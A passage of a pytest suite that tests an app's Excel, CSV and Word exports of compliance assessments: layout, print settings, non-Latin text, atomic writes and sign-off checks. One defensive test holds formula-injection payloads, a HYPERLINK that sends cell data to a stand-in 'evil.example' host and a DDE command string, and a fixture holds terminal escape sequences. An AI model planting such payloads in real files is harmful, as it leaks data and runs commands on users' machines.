"""The working copies, read back with independent readers: openpyxl, csv and python-docx."""

from __future__ import annotations

import csv
import errno
import io
import os
import stat
import subprocess
import sys
import zipfile
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.shared import Mm
from openpyxl import load_workbook
from openpyxl.utils import column_index_from_string as openpyxl_column
from openpyxl.utils import get_column_letter

from app.dto import AssessmentSnapshot
from app.errors import UserError
from app.exports import rows
from app.exports.cells import FORMULA_STARTS
from app.exports.csv_files import actions_path
from app.exports.formats import CopyFormat, export_copy, with_suffix
from app.exports.writing import ExportCancelledError
from app.report import content
from app.services import actions, answers, assessments
from app.signoff_gate import AlteredSinceSignOffError
from app.values import AnswerValue as V
from app.wording import action_status_word, answer_word, score_figure, severity_word
from tests.app.test_report import CYRILLIC, GREEK, NAME, REPORT_DAY, build
from tests.conftest import ROOT, run_cli

SHEETS = ["Summary", "Answers", "Actions", "Evidence"]


@pytest.fixture
def draft(workspace, make_assessment):
    return build(workspace, make_assessment, sign=False)


@pytest.fixture
def signed(workspace, make_assessment):
    return build(workspace, make_assessment, sign=True)


def export(snap: AssessmentSnapshot, fmt: CopyFormat, folder: Path) -> list[Path]:
    return export_copy(snap, fmt, folder / f"copy{fmt.suffix}", generated_at=REPORT_DAY)


def no_leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name != "data")  # the workspace's


def sheet_rows(path: Path, name: str) -> list[tuple[Any, ...]]:
    return list(load_workbook(path)[name].iter_rows(values_only=True))


# Excel


def test_workbook_has_its_sheets_and_the_notice_first(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.XLSX, tmp_path)
    wb = load_workbook(out)
    assert wb.sheetnames == SHEETS
    summary = wb["Summary"]
    assert summary["A1"].value == "Working copy — not the signed record"
    assert draft.fingerprint in summary["A2"].value
    facts = {r[0]: r[1] for r in summary.iter_rows(min_row=4, values_only=True) if r and r[0]}
    assert facts["Fingerprint"] == draft.fingerprint
    assert facts["Organisation"] == f"{NAME} Academy"
    assert facts["Status"] == "Draft"
    assert facts["Sign-off"] is None  # the heading of the sign-off part
    assert "DRAFT — this assessment has not been signed off." in [
        r[0] for r in summary.iter_rows(values_only=True)
    ]
    for st in draft.score_sheet.sections:
        row = next(r for r in summary.iter_rows(values_only=True) if r[0] == st.section.title)
        assert row[1:3] == (st.tally.applicable, st.tally.answered)
        assert row[9] == st.tally.score
    whole = next(r for r in summary.iter_rows(values_only=True) if r[0] == "Whole assessment")
    assert whole[9] == draft.score_sheet.overall.score


def test_every_sheet_prints_the_notice_at_a_readable_scale(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.XLSX, tmp_path)
    wb = load_workbook(out)
    mark = f"Working copy — not the signed record · fingerprint {draft.fingerprint[:16]}"
    for ws in wb.worksheets:
        header, footer = ws.oddHeader, ws.oddFooter
        assert header is not None and footer is not None
        assert header.center.text == mark, ws.title
        assert footer.center.text == "Page &P of &N"
        assert ws.page_setup.orientation == "landscape"
        # What prints: the print area's columns, spread over so many pages across that each
        # page holds at most 200 characters of width (a scale of about 70% or more).
        area = ws.print_area
        assert area is not None, ws.title
        last = area.split(":")[-1].lstrip("$").split("$")[0]
        width = sum(
            ws.column_dimensions[get_column_letter(n)].width
            for n in range(1, openpyxl_column(last) + 1)
        )
        pages = ws.page_setup.fitToWidth
        assert pages is not None and pages >= 1, ws.title
        assert width / pages <= 200, (ws.title, width, pages)
    answers = wb["Answers"]
    titles = [c.value for c in answers[1]]
    assert titles[-1] == "Evidence SHA-256"
    assert answers.print_area.endswith(
        f"${get_column_letter(len(titles) - 1)}${answers.max_row}"
    )  # the hash is left out of print
    assert answers.print_title_cols == "$B:$B"  # the item id on every page across
    summary = wb["Summary"]
    assert summary["A2"].alignment.wrap_text and "A2:J2" in summary.merged_cells
    assert summary.print_area.endswith(f"$J${summary.max_row}")
    for ws in wb.worksheets:  # fit to pages across, which a sheet says before its rows
        fit = ws.sheet_properties.pageSetUpPr
        assert fit is not None and fit.fitToPage, ws.title
    assert summary.row_dimensions[2].height > 15


def test_every_item_with_answer_note_and_when(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.XLSX, tmp_path)
    header, *body = sheet_rows(out, "Answers")
    assert header[:6] == ("Section", "Item", "Question", "Severity", "Answer", "Note")
    assert [r[1] for r in body] == [i.id for i in draft.checklist.items]
    for row in body:
        item = draft.checklist.item(row[1])
        assert item is not None
        assert row[2] == item.question
        assert row[3] == severity_word(item.severity)
        if draft.in_scope(item):
            assert row[4] == answer_word(draft.value_of(item.id))
        else:
            assert row[4] == "Out of scope" and row[6] == "No"
        assert (row[5] or "") == draft.note_of(item.id)
        answer = draft.answers.get(item.id)
        if answer is not None:
            assert isinstance(row[9], datetime)
            assert row[9] == rows.utc(answer.answered_at)
            assert row[8] == answer.answered_by
    a1 = next(r for r in body if r[1] == "a1")
    (attached,) = [e for e in draft.evidence if e.active]
    assert a1[10] == "policy.pdf" and a1[11] == attached.sha256
    b1 = next(r for r in body if r[1] == "b1")
    assert b1[7] == "Yes"  # risk accepted


def test_actions_have_real_dates_status_and_overdue(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.XLSX, tmp_path)
    ws = load_workbook(out)["Actions"]
    header, *body = list(ws.iter_rows(values_only=True))
    assert header == (
        "Item",
        "Question",
        "Action",
        "Owner",
        "Due",
        "Status",
        "Overdue",
        "Progress note",
    )
    planned = content.planned_actions(draft, REPORT_DAY.date())
    assert len(body) == len(planned) == len(draft.actions)
    for row, plan in zip(body, planned, strict=True):
        assert row[0] == plan.item.id and row[2] == plan.action.title
        assert row[3] == plan.action.owner
        assert isinstance(row[4], datetime) and row[4].date() == plan.action.due
        assert row[5] == action_status_word(plan.action.status)
        assert row[6] == ("Yes" if plan.overdue else "No")
    assert ws["E2"].is_date
    assert [r[6] for r in body].count("Yes") == 1


def test_evidence_register_sheet(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.XLSX, tmp_path)
    header, *body = sheet_rows(out, "Evidence")
    (attached,) = [e for e in draft.evidence if e.active]
    (row,) = body
    assert row[:4] == ("a1", "policy.pdf", attached.size, attached.sha256)
    assert row[4].date() == attached.dated


def test_headers_frozen_filters_on_widths_and_wrap(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.XLSX, tmp_path)
    wb = load_workbook(out)
    for name in SHEETS[1:]:
        ws = wb[name]
        assert ws.freeze_panes == "A2", name
        assert ws.auto_filter.ref == f"A1:{get_column_letter(ws.max_column)}{ws.max_row}"
        assert all(ws.cell(1, c).font.bold for c in range(1, ws.max_column + 1))
        widths = [ws.column_dimensions[get_column_letter(c)].width for c in range(1, 4)]
        assert all(w and w >= 9 for w in widths), (name, widths)
    answers_ws = wb["Answers"]
    assert answers_ws.column_dimensions["F"].width >= 40
    assert all(
        bool(cell.alignment.wrap_text) == (len(str(cell.value)) > 50 or "\n" in str(cell.value))
        for row in answers_ws.iter_rows(min_row=2, min_col=3, max_col=3)
        for cell in row
    )
    assert rows.answers_table(draft).columns[2].width == 50


def test_long_text_wraps_and_short_text_stays_on_one_line(
    workspace, make_assessment, tmp_path
) -> None:
    snap = make_assessment()
    long_note = "Checked in the admin console and by a test call; " * 3
    with workspace.write() as session:
        answers.record_answer(
            session, snap.id, "a1", value=V.YES, note=long_note.strip(), actor="t"
        )
        answers.record_answer(session, snap.id, "a2", value=V.YES, note="Short", actor="t")
        answers.record_answer(session, snap.id, "a3", value=V.YES, note="One\ntwo", actor="t")
        snap = assessments.get_assessment(session, snap.id)
    (out,) = export(snap, CopyFormat.XLSX, tmp_path)
    ws = load_workbook(out)["Answers"]
    assert [bool(ws.cell(r, 6).alignment.wrap_text) for r in (2, 3, 4)] == [True, False, True]
    # Rows are sized to the lines their wrapped text takes (15 points a line).
    assert [ws.row_dimensions[r].height for r in (2, 3, 4)] == [45, None, 30]


def test_every_cell_is_in_the_workbooks_font(draft, tmp_path) -> None:
    # A styled cell whose font had no name was drawn in a serif face by LibreOffice.
    (out,) = export(draft, CopyFormat.XLSX, tmp_path)
    wb = load_workbook(out)
    fonts = {
        (cell.font.name, cell.font.sz)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None and not cell.font.b
    }
    assert fonts == {("Calibri", 11)}
    bold = {
        (cell.font.name, cell.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None and cell.font.b
    }
    assert ("Calibri", "Working copy — not the signed record") in bold
    assert ("Calibri", "Note") in bold  # a header
    assert {name for name, _value in bold} == {"Calibri"}
    assert "Working copy wrapped text" in wb.named_styles


def test_non_latin_names_survive_everywhere(draft, tmp_path) -> None:
    (xlsx,) = export(draft, CopyFormat.XLSX, tmp_path)
    values = [v for r in sheet_rows(xlsx, "Answers") for v in r if isinstance(v, str)]
    values += [v for r in sheet_rows(xlsx, "Actions") for v in r if isinstance(v, str)]
    for phrase in (GREEK, CYRILLIC, f"Checked by {NAME}"):
        assert phrase in values
    assert NAME in values  # an action's owner
    answers_csv, actions_csv = export(draft, CopyFormat.CSV, tmp_path)
    text = answers_csv.read_text(encoding="utf-8-sig") + actions_csv.read_text("utf-8-sig")
    for phrase in (GREEK, CYRILLIC, NAME):
        assert phrase in text
    (word,) = export(draft, CopyFormat.DOCX, tmp_path)
    cells = docx_cells(word)
    for phrase in (GREEK, CYRILLIC, f"Checked by {NAME}", NAME):
        assert phrase in cells


def test_no_formula_cell_anywhere(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.XLSX, tmp_path)
    wb = load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


# Cell injection, one case per character


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_injection_is_inert_in_the_workbook_and_the_csv(
    workspace, make_assessment, tmp_path, start
) -> None:
    snap = make_assessment()
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    title = f"{start}cmd|' /C calc'!A0"
    with workspace.write() as session:
        answers.record_answer(session, snap.id, "a1", value=V.NO, note="x", actor="t")
        actions.add_action(
            session, snap.id, "a1", title="x", owner="x", due=date(2027, 1, 1), actor="t"
        )
        snap = assessments.get_assessment(session, snap.id)
    # Typed text is trimmed, so a leading tab or CR can't be typed; a workspace or bundle
    # written elsewhere may still hold one, and the export must not trust that it can't.
    answer = replace(snap.answers["a1"], note=payload, answered_by=title)
    (action,) = snap.actions
    snap = replace(
        snap,
        answers={**snap.answers, "a1": answer},
        actions=(replace(action, title=title, owner=f"{start}1+1"),),
    )
    (xlsx,) = export(snap, CopyFormat.XLSX, tmp_path)
    wb = load_workbook(xlsx)
    note = wb["Answers"]["F2"]
    assert note.value == payload  # kept exactly, as text
    assert note.data_type == "s" and note.quotePrefix
    by = wb["Answers"]["I2"]
    assert by.value == title and by.data_type == "s" and by.quotePrefix
    action = wb["Actions"]["C2"]
    assert action.value == title and action.data_type == "s" and action.quotePrefix
    assert wb["Actions"]["D2"].value == f"{start}1+1" and wb["Actions"]["D2"].quotePrefix
    with zipfile.ZipFile(xlsx) as archive:
        assert all(b"<f>" not in archive.read(n) for n in archive.namelist() if "worksheets" in n)
    answers_csv, actions_csv = export(snap, CopyFormat.CSV, tmp_path)
    body = read_csv(answers_csv)[1:-2]
    assert body[0][5] == "'" + payload
    assert body[0][8] == "'" + title
    plan = read_csv(actions_csv)[1:-2]
    assert plan[0][2] == "'" + title and plan[0][3] == f"'{start}1+1"
    for row in body + plan:
        for field in row:
            assert not field.startswith(FORMULA_STARTS), field


def test_harmless_text_is_left_alone(workspace, make_assessment, tmp_path) -> None:
    snap = make_assessment()
    with workspace.write() as session:
        answers.record_answer(session, snap.id, "a1", value=V.NO, note="5 - 3 = 2", actor="t")
        snap = assessments.get_assessment(session, snap.id)
    (xlsx,) = export(snap, CopyFormat.XLSX, tmp_path)
    cell = load_workbook(xlsx)["Answers"]["F2"]
    assert cell.value == "5 - 3 = 2" and not cell.quotePrefix
    answers_csv, _actions = export(snap, CopyFormat.CSV, tmp_path)
    assert read_csv(answers_csv)[1][5] == "5 - 3 = 2"


# CSV


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_csv_answers_and_actions_bom_crlf_and_quoting(draft, tmp_path) -> None:
    written = export(draft, CopyFormat.CSV, tmp_path)
    assert written == [tmp_path / "copy.csv", tmp_path / "copy-actions.csv"]
    assert actions_path(tmp_path / "copy.csv") == written[1]
    for path in written:
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        assert raw.endswith(b"\r\n")
        assert b"\n" not in raw.replace(b"\r\n", b"")  # no note here holds a line break
    header, *body, blank, notice = read_csv(written[0])
    # The header is the first row, so "first row is header", sort and filter just work; the
    # notice is the last line, after an empty one that ends the table's range for Excel.
    assert blank == [] and len(notice) == 1
    assert notice[0].startswith("Working copy — not the signed record. ")
    assert f"{draft.fingerprint}. Draft: not signed off." in notice[0]
    assert header[:5] == ["Section", "Item", "Question", "Severity", "Answer"]
    assert [r[1] for r in body] == [i.id for i in draft.checklist.items]
    for row in body:
        item = draft.checklist.item(row[1])
        assert item is not None
        assert row[5] == draft.note_of(item.id)
        answer = draft.answers.get(item.id)
        if answer is not None:
            assert row[9] == rows.utc(answer.answered_at).strftime("%Y-%m-%d %H:%M:%S")
    header, *plan, blank, notice = read_csv(written[1])
    assert header[0] == "Item" and blank == []
    assert draft.fingerprint in notice[0]
    expected = content.planned_actions(draft, REPORT_DAY.date())
    assert [(r[0], r[2], r[3], r[4], r[5], r[6]) for r in plan] == [
        (
            p.item.id,
            p.action.title,
            p.action.owner,
            p.action.due.isoformat(),
            action_status_word(p.action.status),
            "Yes" if p.overdue else "No",
        )
        for p in expected
    ]


def test_csv_quotes_commas_quotes_and_line_breaks(workspace, make_assessment, tmp_path) -> None:
    snap = make_assessment()
    note = 'Line one, with a comma\nand "quotes"\nand a second line'
    with workspace.write() as session:
        answers.record_answer(session, snap.id, "a1", value=V.YES, note=note, actor="t")
        snap = assessments.get_assessment(session, snap.id)
    answers_csv, _actions = export(snap, CopyFormat.CSV, tmp_path)
    raw = answers_csv.read_bytes().decode("utf-8-sig")
    assert '"Line one, with a comma' in raw and '""quotes""' in raw
    # Every record ends CRLF (RFC 4180); line breaks inside a quoted field stay as they were.
    records = list(csv.reader(io.StringIO(raw, newline="")))
    assert records[1][5] == snap.note_of("a1")
    assert raw.endswith("\r\n")


def test_csv_quotes_every_field(workspace, make_assessment, tmp_path) -> None:
    # In a locale whose list separator is ';' a spreadsheet splits unquoted fields at it.
    snap = make_assessment()
    with workspace.write() as session:
        answers.record_answer(
            session, snap.id, "a1", value=V.YES, note="first; second; third", actor="t"
        )
        snap = assessments.get_assessment(session, snap.id)
    for path in export(snap, CopyFormat.CSV, tmp_path):
        raw = path.read_bytes().decode("utf-8-sig")
        for line in raw.split("\r\n"):
            if line:
                fields = line[1:-1].split('","')
                assert line.startswith('"') and line.endswith('"'), line
                assert all('"' not in f.replace('""', "") for f in fields), line
    assert '"first; second; third"' in (tmp_path / "copy.csv").read_text(encoding="utf-8-sig")


# Word


def docx_cells(path: Path) -> str:
    document = docx.Document(str(path))
    texts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            texts += [c.text for c in row.cells]
    return "\n".join(texts)


def test_word_headings_tables_chart_and_notice(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.DOCX, tmp_path)
    document = docx.Document(str(out))
    first, second = document.paragraphs[0].text, document.paragraphs[1].text
    assert first == "Working copy — not the signed record"
    assert draft.fingerprint in second
    headings = [
        p.text for p in document.paragraphs if p.style is not None and p.style.name == "Heading 1"
    ]
    assert headings == [
        "Executive summary",
        "Gaps, worst first",
        "Remediation plan",
        "The checklist, item by item",
        "Items out of scope",
        "What the chosen controls cost",
        "Evidence register",
        "Sign-off",
    ]
    sections = [
        p.text for p in document.paragraphs if p.style is not None and p.style.name == "Heading 2"
    ]
    for st in draft.score_sheet.sections:
        assert st.section.title in sections
    text = "\n".join(p.text for p in document.paragraphs)
    assert "Weights: high 3, medium 2, low 1. Values: yes 1, partial 0.5, no 0." in text
    for table in document.tables:
        header = table.rows[0]._tr
        assert header.trPr is not None and header.trPr.xpath("./w:tblHeader"), "header row"
        assert all(run.bold for c in table.rows[0].cells for run in c.paragraphs[0].runs)
    pictures = document.inline_shapes
    assert len(pictures) == 1
    described = pictures[0]._inline.docPr.get("descr")
    for st in draft.score_sheet.sections:
        assert st.section.title in described
    with zipfile.ZipFile(out) as archive:
        assert any(n.startswith("word/media/") and n.endswith(".png") for n in archive.namelist())


def test_word_marks_every_page_and_sizes_its_columns(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.DOCX, tmp_path)
    document = docx.Document(str(out))
    section = document.sections[0]
    mark = f"Working copy — not the signed record · fingerprint {draft.fingerprint[:16]}"
    assert [p.text for p in section.header.paragraphs] == [mark]
    assert mark in [p.text for p in section.footer.paragraphs][0]
    assert not section.different_first_page_header_footer  # the same on every page
    props = document.core_properties
    assert props.title == draft.title and props.author == "Compliance Desk"
    assert props.language == draft.checklist.language
    assert section.page_width and section.left_margin and section.right_margin
    text_width = section.page_width - section.left_margin - section.right_margin
    for table in document.tables:
        grid = [c.width for c in table.columns]
        assert abs(sum(grid) - text_width) < Mm(1), "the table fills the text's width"
        for row in table.rows:  # every cell as wide as its column: what word processors use
            assert [c.width for c in row.cells] == grid
    by_header = {tuple(c.text for c in t.rows[0].cells): t for t in document.tables}
    summary = next(t for h, t in by_header.items() if h[0] == "Section" and "Score (%)" in h)
    whole = [c.text for c in summary.rows[-1].cells]
    assert whole[0] == "Whole assessment"
    assert whole[-1] == score_figure(draft.score_sheet.overall.score)
    assert any("Expired" in h for h in by_header)  # the evidence register, as in the PDF


def header_words_fit(document: Any) -> list[str]:
    """Header words wider than their column: a word processor breaks them ("(bytes" + ")").

    Measured in Helvetica Bold 9 pt, whose widths Arial and its stand-ins (Liberation Sans,
    Nimbus Sans) share, with the Table Grid style's cell margins (108 twips each side).
    """
    from reportlab.pdfbase.pdfmetrics import stringWidth

    margins = 2 * 108 / 20  # points
    too_wide = []
    for table in document.tables:
        for cell, column in zip(table.rows[0].cells, table.columns, strict=True):
            room = column.width.pt - margins
            too_wide += [w for w in cell.text.split() if stringWidth(w, "Helvetica-Bold", 9) > room]
    return too_wide


def test_word_header_words_fit_their_columns(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.DOCX, tmp_path)
    assert header_words_fit(docx.Document(str(out))) == []


def test_word_has_every_item_note_action_and_date(draft, tmp_path) -> None:
    (out,) = export(draft, CopyFormat.DOCX, tmp_path)
    document = docx.Document(str(out))
    item_rows: dict[str, list[str]] = {}
    for table in document.tables:
        if [c.text for c in table.rows[0].cells][-1] != "Evidence files":
            continue
        for row in table.rows[1:]:
            cells = [c.text for c in row.cells]
            item_rows[cells[0]] = cells
    assert list(item_rows) == [i.id for i in draft.checklist.items]
    for item in draft.checklist.items:
        item_id, question, answer, severity, note, files = item_rows[item.id]
        assert question == item.question
        assert severity == severity_word(item.severity)
        expected = answer_word(draft.value_of(item.id)) if draft.in_scope(item) else "Out of scope"
        assert answer == expected
        assert note == draft.note_of(item.id)
        assert files == "\n".join(e.name for e in draft.evidence_for(item.id))
    text = docx_cells(out)
    for action in draft.actions:
        assert action.title in text and action.due.isoformat() in text
    gap_order = [text.index(f"\n{i}\n") for i in ("b1", "b4", "a2", "a3")]
    assert gap_order == sorted(gap_order)  # worst first, as in the PDF
    assert "DRAFT — this assessment has not been signed off." in text


# Signed off


def test_signed_off_exports_carry_the_signoff(signed, tmp_path) -> None:
    signoff = signed.signoff
    assert signoff is not None
    (xlsx,) = export(signed, CopyFormat.XLSX, tmp_path)
    summary = {r[0]: r[1] for r in sheet_rows(xlsx, "Summary") if r and r[0]}
    assert summary["Status"] == "Signed off"
    assert summary["Reviewer"] == "Dana Okafor"  # the sign-off part's own row wins
    assert summary["Role"] == "Data protection officer"
    assert summary["Fingerprint approved"] == signoff.fingerprint == signed.fingerprint
    assert summary["Attestation"] == f"Approved for {NAME}."
    answers_csv, actions_csv = export(signed, CopyFormat.CSV, tmp_path)
    for path in (answers_csv, actions_csv):
        notice = read_csv(path)[-1][0]
        assert "Signed off by Dana Okafor (Data protection officer)" in notice
        assert f"approving fingerprint {signoff.fingerprint}" in notice
    (word,) = export(signed, CopyFormat.DOCX, tmp_path)
    text = docx_cells(word)
    assert "Dana Okafor" in text and "Fingerprint approved" in text
    assert f"Approved for {NAME}." in text
    assert "not been signed off" not in text


def test_a_long_sign_off_statement_wraps_across_the_summary_so_it_prints_whole(
    signed, tmp_path
) -> None:
    # The app's own attestation ran on past the last column, off the printed page.
    statement = (
        "I have reviewed this assessment: its scope, every answer and note, the remediation "
        "actions and the evidence attached. I approve it as a true record of the "
        "organisation's position on the date of this sign-off."
    )
    assert signed.signoff is not None
    current = replace(signed.signoff, statement=statement)
    snap = replace(signed, signoffs=(*signed.signoffs[:-1], current))
    assert snap.signoff == current
    (xlsx,) = export(snap, CopyFormat.XLSX, tmp_path)
    summary = load_workbook(xlsx)["Summary"]
    (cell,) = [c for row in summary.iter_rows() for c in row if c.value == statement]
    last = get_column_letter(summary.max_column)
    assert f"B{cell.row}:{last}{cell.row}" in summary.merged_cells
    assert cell.alignment.wrap_text
    assert summary.row_dimensions[cell.row].height >= 2 * 15  # two lines at least
    short = [c for row in summary.iter_rows() for c in row if c.value == "Dana Okafor"]
    assert short and not any(f"B{c.row}:" in str(summary.merged_cells) for c in short)


# Failures leave no file


@pytest.mark.parametrize("fmt", list(CopyFormat))
def test_missing_folder_is_refused_and_nothing_written(draft, tmp_path, fmt) -> None:
    with pytest.raises(UserError, match="can't write"):
        export_copy(draft, fmt, tmp_path / "gone" / f"copy{fmt.suffix}")
    assert no_leftovers(tmp_path) == []


@pytest.mark.parametrize("fmt", list(CopyFormat))
def test_a_file_in_the_way_of_the_folder_leaves_nothing(draft, tmp_path, fmt) -> None:
    (tmp_path / "notes.txt").write_text("a file, not a folder")
    with pytest.raises(UserError, match="can't write"):
        export_copy(draft, fmt, tmp_path / "notes.txt" / f"copy{fmt.suffix}")
    assert no_leftovers(tmp_path) == ["notes.txt"]


@pytest.mark.parametrize("fmt", list(CopyFormat))
def test_cancel_leaves_no_file_and_keeps_the_old_one(draft, tmp_path, fmt) -> None:
    target = tmp_path / f"copy{fmt.suffix}"
    target.write_bytes(b"the copy from last week")
    seen: list[int] = []

    def cancelled() -> bool:
        seen.append(1)
        return len(seen) > 1

    with pytest.raises(ExportCancelledError):
        export_copy(draft, fmt, target, cancelled=cancelled)
    assert target.read_bytes() == b"the copy from last week"
    assert no_leftovers(tmp_path) == [target.name]


def test_a_failing_second_csv_file_leaves_neither(draft, tmp_path) -> None:
    target = tmp_path / "copy.csv"
    actions_path(target).mkdir()  # a folder where the actions file would go
    with pytest.raises(UserError):
        export_copy(draft, CopyFormat.CSV, target)
    assert not target.exists()
    assert no_leftovers(tmp_path) == ["copy-actions.csv"]


def test_csv_pair_is_placed_together_or_not_at_all(draft, tmp_path) -> None:
    target = tmp_path / "copy.csv"
    target.write_bytes(b"last week's answers")
    actions = actions_path(target)
    actions.write_bytes(b"last week's actions")

    def progress(done: int, total: int) -> None:
        # At the last step the actions file turns into a folder holding a file:
        # it can no longer be replaced, after the answers file already was.
        if done >= total - 1 and actions.is_file():
            actions.unlink()
            actions.mkdir()
            (actions / "kept.txt").write_text("in the way")

    with pytest.raises(UserError, match="can't write"):
        export_copy(draft, CopyFormat.CSV, target, progress=progress)
    assert target.read_bytes() == b"last week's answers"
    assert no_leftovers(tmp_path) == ["copy-actions.csv", "copy.csv"]


def test_csv_pair_put_back_leaves_no_file_that_was_not_there(draft, tmp_path) -> None:
    target = tmp_path / "copy.csv"
    actions = actions_path(target)

    def progress(done: int, total: int) -> None:
        if done >= total - 1 and not actions.exists():
            actions.mkdir()
            (actions / "kept.txt").write_text("in the way")

    with pytest.raises(UserError, match="can't write"):
        export_copy(draft, CopyFormat.CSV, target, progress=progress)
    assert not target.exists()
    assert no_leftovers(tmp_path) == ["copy-actions.csv"]


def _watch_disk(monkeypatch, events: list[str], *, full_at: int = 0) -> None:
    """Note each flush (of a file or a folder) and rename; the `full_at`th file flush fails."""
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd: int) -> None:
        kind = "folder" if stat.S_ISDIR(os.fstat(fd).st_mode) else "file"
        events.append(f"flush {kind}")
        if kind == "file" and events.count("flush file") == full_at:
            raise OSError(errno.ENOSPC, "No space left on device")
        real_fsync(fd)

    def rename(src: Any, dst: Any) -> None:
        events.append(f"rename {Path(dst).name}")
        real_replace(src, dst)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", rename)


def test_csv_pair_is_on_disk_before_either_file_is_replaced(draft, tmp_path, monkeypatch) -> None:
    target = tmp_path / "copy.csv"
    events: list[str] = []
    _watch_disk(monkeypatch, events)
    export_copy(draft, CopyFormat.CSV, target)
    assert events == [
        "flush file",
        "flush file",
        "rename copy.csv",
        "rename copy-actions.csv",
        "flush folder",  # once for both renames
    ]
    assert read_csv(target)[0][0] == "Section" and read_csv(actions_path(target))[0][0] == "Item"


def test_a_full_disk_at_the_second_flush_replaces_neither(draft, tmp_path, monkeypatch) -> None:
    target = tmp_path / "copy.csv"
    target.write_bytes(b"last week's answers")
    actions_path(target).write_bytes(b"last week's actions")
    events: list[str] = []
    _watch_disk(monkeypatch, events, full_at=2)
    with pytest.raises(UserError, match="No space left on device"):
        export_copy(draft, CopyFormat.CSV, target)
    assert not any(e.startswith("rename") for e in events)
    assert target.read_bytes() == b"last week's answers"
    assert actions_path(target).read_bytes() == b"last week's actions"
    assert no_leftovers(tmp_path) == ["copy-actions.csv", "copy.csv"]


def test_suffix_is_added_when_missing(tmp_path) -> None:
    assert with_suffix(tmp_path / "plan", CopyFormat.XLSX).name == "plan.xlsx"
    assert with_suffix(tmp_path / "plan.XLSX", CopyFormat.XLSX).name == "plan.XLSX"
    assert with_suffix(tmp_path / "plan.pdf", CopyFormat.DOCX).name == "plan.pdf.docx"


@pytest.mark.parametrize("fmt", list(CopyFormat))
def test_an_assessment_altered_since_signoff_is_refused(signed, tmp_path, fmt) -> None:
    # What a workspace changed outside the app would hold: an answer its sign-off never saw.
    answer = replace(signed.answers["a1"], note="changed behind the app's back")
    altered = replace(signed, answers={**signed.answers, "a1": answer})
    assert altered.altered_since_signoff
    with pytest.raises(AlteredSinceSignOffError):
        export_copy(altered, fmt, tmp_path / f"copy{fmt.suffix}")
    assert no_leftovers(tmp_path) == []


# Text from a workspace written elsewhere


CONTROL_NOTE = "bell\x07 escape\x1b[31m red\x00 form\x0c end"
SHOWN_NOTE = "bell\ufffd escape\ufffd[31m red\ufffd form\ufffd end"


@pytest.fixture
def with_controls(workspace, make_assessment) -> AssessmentSnapshot:
    """A note, a name and a title holding control characters no one can type here.

    The app refuses them on input, but a workspace changed outside it (or written by an
    older version) may hold them; the workbook's and the Word file's XML can't.
    """
    snap = make_assessment()
    with workspace.write() as session:
        answers.record_answer(session, snap.id, "a1", value=V.NO, note="x", actor="t")
        snap = assessments.get_assessment(session, snap.id)
    answer = replace(snap.answers["a1"], note=CONTROL_NOTE, answered_by="Zoë\x1b[2J")
    return replace(
        snap, title="Title\x0b", organisation="Org\x1f", answers={**snap.answers, "a1": answer}
    )


def test_control_characters_are_shown_as_replacement_in_the_workbook(
    with_controls, tmp_path
) -> None:
    (xlsx,) = export(with_controls, CopyFormat.XLSX, tmp_path)
    sheet = load_workbook(xlsx)["Answers"]
    assert sheet["F2"].value == SHOWN_NOTE
    assert sheet["I2"].value == "Zoë\ufffd[2J"
    assert no_leftovers(tmp_path) == ["copy.xlsx"]


def test_control_characters_are_shown_as_replacement_in_the_word_copy(
    with_controls, tmp_path
) -> None:
    (path,) = export(with_controls, CopyFormat.DOCX, tmp_path)
    text = docx_cells(path)
    assert SHOWN_NOTE in text and "\x1b" not in text
    document = docx.Document(str(path))
    assert document.core_properties.title == "Title\ufffd"
    assert any(p.text == "Org\ufffd" for p in document.paragraphs)


def test_control_characters_are_shown_as_replacement_in_the_csv(with_controls, tmp_path) -> None:
    answers_csv, _actions = export(with_controls, CopyFormat.CSV, tmp_path)
    row = read_csv(answers_csv)[1]
    assert row[5] == SHOWN_NOTE and row[8] == "Zoë\ufffd[2J"


@pytest.mark.parametrize(
    ("fmt", "example"),
    [
        (CopyFormat.XLSX, "report.xlsx"),
        (CopyFormat.CSV, "answers.csv"),
        (CopyFormat.DOCX, "report.docx"),
    ],
)
def test_a_folder_given_as_the_file_is_refused_with_a_name_of_the_format(
    draft, tmp_path: Path, fmt: CopyFormat, example: str
) -> None:
    folder = tmp_path / f"plan{fmt.suffix}"
    folder.mkdir()
    with pytest.raises(UserError) as refused:
        export_copy(draft, fmt, folder, generated_at=REPORT_DAY)
    assert str(refused.value) == f"{folder} is a folder; give a file name such as {example}"
    assert list(folder.iterdir()) == []


def test_a_killed_workbook_export_leaves_nothing_once_the_next_command_starts(
    workspace, make_assessment, tmp_path: Path
) -> None:
    """Openpyxl's sheet files live in the staging area, where the next start finds them."""
    snap = make_assessment()
    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    staging = workspace.paths.staging_dir
    with subprocess.Popen(
